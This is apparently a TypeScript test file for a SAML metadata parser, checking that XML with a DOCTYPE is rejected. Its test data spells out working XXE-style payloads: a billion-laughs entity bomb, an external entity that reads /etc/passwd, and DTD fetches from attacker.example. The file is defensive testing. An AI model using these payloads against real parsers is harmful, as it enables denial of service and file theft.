// A DOCTYPE in metadata: entities that grow or that fetch files. In a large file it is refused
// before anything is searched.
import { enlarged, entityDescriptor, IDP } from '../saml/metadata/metadata-text.ts'
import { metadataAttack } from './metadata-harness.ts'

const laughs = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`,
).join('')
const DOCTYPES: Record<string, string> = {
  'one alone': '<!DOCTYPE md:EntityDescriptor>',
  'a billion laughs': `<!DOCTYPE a [<!ENTITY a0 "ha">${laughs}]>`,
  'an external entity': '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  'an external subset': '<!DOCTYPE a SYSTEM "https://attacker.example/a.dtd">',
  'a parameter entity': '<!DOCTYPE a [<!ENTITY % a SYSTEM "https://attacker.example/a">%a;]>',
}

for (const [name, doctype] of Object.entries(DOCTYPES))
  for (const [size, sized] of [
    ['small', (xml: string) => xml],
    ['large', enlarged],
  ] as const)
    metadataAttack(`metadata-doctype, ${name}, ${size}`, {
      genuine: sized(entityDescriptor()),
      manipulated: sized(
        doctype +
          entityDescriptor().replace('_entity', name.includes('laughs') ? '&a9;' : '_entity'),
      ),
      code: 'xml_doctype',
      entityID: IDP,
    })
